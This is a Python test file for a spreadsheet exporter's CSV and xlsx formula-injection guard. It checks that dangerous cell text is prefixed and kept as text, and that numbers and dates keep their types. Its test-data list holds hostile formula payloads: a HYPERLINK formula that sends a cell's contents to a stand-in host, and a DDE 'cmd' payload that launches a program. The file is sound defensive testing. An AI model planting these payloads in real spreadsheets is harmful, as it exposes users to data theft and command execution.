"""The exporter base: text a spreadsheet would run as a formula comes back as text, in
xlsx and CSV alike; numbers and dates stay numbers and dates."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from services.core.export import Exporter, neutralizza

PERICOLOSI = ['=HYPERLINK("https://x.example/?"&C2;"Rossi")', "=cmd|' /C calc'!A0",
              "@SUM(1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


class _Prova(Exporter):
    filename = "prova"

    def tables(self):
        yield "Foglio", ["Testo", "Importo", "Data", "Numero"], [
            [testo, Decimal("-12.50"), date(2025, 3, 1), -4] for testo in PERICOLOSI
        ] + [["Rossi", Decimal("1.00"), None, 0]]


def test_neutralizza_prefixes_only_what_can_start_a_formula():
    for testo in PERICOLOSI:
        assert neutralizza(testo) == "'" + testo
    for testo in ("Rossi", "", "1+1", "Via Roma, 3", "D'Amico", " =1"):
        assert neutralizza(testo) == testo


def test_xlsx_writes_text_as_text_and_numbers_as_numbers():
    wb = load_workbook(io.BytesIO(_Prova().to_xlsx()))
    ws = wb["Foglio"]
    righe = list(ws.iter_rows(min_row=2))
    for riga, testo in zip(righe, PERICOLOSI, strict=False):
        cella = riga[0]
        assert cella.data_type == "s"  # never "f", a formula
        # (XML keeps no bare carriage return: "\r" is read back as "\n")
        assert cella.value == "'" + testo.replace("\r", "\n")
        assert riga[1].value == -12.5
        assert riga[1].data_type == "n"
        assert riga[1].number_format == "#,##0.00"
        assert riga[2].value.date() == date(2025, 3, 1)
        assert riga[2].is_date
        assert riga[3].value == -4
    assert righe[-1][0].value == "Rossi"


def test_csv_writes_text_as_text_and_numbers_as_numbers():
    testo = _Prova().to_csv()
    assert testo.startswith("\ufeff")
    righe = list(csv.reader(io.StringIO(testo[1:]), delimiter=";"))
    assert righe[0] == ["Foglio"]
    dati = righe[2:2 + len(PERICOLOSI)]
    assert [r[0] for r in dati] == ["'" + t for t in PERICOLOSI]
    assert all(r[1:] == ["-12,50", "01/03/2025", "-4"] for r in dati)
